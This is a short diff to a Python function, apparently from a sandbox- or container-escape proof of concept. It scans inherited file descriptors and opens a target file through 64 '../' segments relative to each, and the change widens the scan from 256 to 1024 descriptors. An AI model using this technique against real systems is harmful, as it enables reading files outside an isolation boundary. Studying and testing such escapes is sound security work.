@@ -6,7 +6,7 @@ import os
 def trigger():
     found = []
     wanted = TARGETS.get("readable", "/nonexistent").lstrip("/")
-    for fd in range(256):
+    for fd in range(1024):
         try:
             at = os.open("../" * 64 + wanted, os.O_RDONLY, dir_fd=fd)
         except OSError:
